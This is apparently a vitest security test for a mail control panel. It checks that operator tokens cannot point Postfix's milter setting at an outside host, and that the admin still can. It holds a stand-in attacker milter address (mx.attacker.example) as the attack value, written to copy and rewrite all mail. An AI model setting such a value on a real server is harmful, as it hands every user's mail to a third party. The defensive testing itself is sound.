/**
 * Attack: an operator reads and rewrites all mail through the rspamd_milter var.
 *
 * rspamd_milter is the address main.cf's smtpd_milters and non_smtpd_milters get while rspamd
 * filters. A milter sees every message, inbound and local, and may add recipients and rewrite
 * bodies: it is a copy of all mail. That is why even the admin may not set *_milters through
 * postfix_custom_config, and the var took any host (inet:mx.attacker.example:11332) from any
 * operator, through var.set or cp.bootstrapper.
 *
 * From the attacker's side, with a real scoped on a sandbox root whose rspamd is a stand-in
 * (recovery/fake-daemons.ts) and rspamd set as the filter: operator tokens (unlimited, and
 * limited to cp.bootstrapper) are refused on both paths, naming the var, and main.cf keeps the
 * root's own rspamd; the admin still may point Postfix at another rspamd.
 */
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ErrorCodes, expectExit } from '../helpers/expect.js';
import { type Scoped, scoped, tcpCall } from '../helpers/scoped.js';
import { FakeDaemons } from '../recovery/fake-daemons.js';

const EVIL = 'inet:mx.attacker.example:11332';

let d: Scoped;
let fakes: FakeDaemons;

async function token(role: string, scopes?: string): Promise<string> {
  const r = await d.cpcmd(['token:create', '--role', role, ...(scopes ? ['--scopes', scopes] : []), '-o', 'json']);
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout).token as string;
}

const milters = async () => (await d.postfix.postconf(['-h', 'smtpd_milters'])).trim();

describe('attack: an operator sends all mail through a milter of its choosing', { timeout: 60_000 }, () => {
  beforeAll(async () => {
    d = await scoped({ postfix: true, start: false });
    fakes = await FakeDaemons.install(d.root, ['rspamd']);
    await d.start();
    expectExit(await d.cpcmd(['scope:set', 'mail.spam-filter', 'rspamd']), 'ok');
  });

  afterAll(async () => {
    await fakes?.stopAll();
    await d?.close();
  });

  it('operators, limited to cp.bootstrapper or not, are forbidden rspamd_milter, and main.cf keeps the root rspamd', async () => {
    const own = await milters();
    expect(own).toMatch(/^inet:127\.0\.0\.1:\d+$/);
    const before = await readFile(d.postfix.mainCf, 'utf8');
    for (const t of [await token('operator'), await token('operator', 'cp.bootstrapper')]) {
      const viaVar = await tcpCall(d.port!, t, 'var.set', { name: 'rspamd_milter', value: EVIL });
      expect('error' in viaVar ? viaVar.error : viaVar.result, JSON.stringify(viaVar)).toMatchObject({
        code: ErrorCodes.Forbidden,
        message: expect.stringMatching(/admin role needed to change rspamd_milter/),
      });
      const viaScope = await tcpCall(d.port!, t, 'scope.set', { name: 'cp.bootstrapper', value: { var: 'rspamd_milter', value: EVIL } });
      expect('error' in viaScope ? viaScope.error : viaScope.result, JSON.stringify(viaScope)).toMatchObject({ code: ErrorCodes.Forbidden });
    }
    expect(await milters()).toBe(own);
    expect(await readFile(d.postfix.mainCf, 'utf8')).toBe(before);
  });

  it('the admin may still point Postfix at another rspamd', async () => {
    expectExit(await d.cpcmd(['scope:set', 'cp.bootstrapper', 'rspamd_milter', 'inet:127.0.0.2:11332']), 'ok');
    expect(await milters()).toBe('inet:127.0.0.2:11332');
    expectExit(await d.cpcmd(['scope:set', 'cp.bootstrapper', 'rspamd_milter', "''"]), 'ok');
  });
});
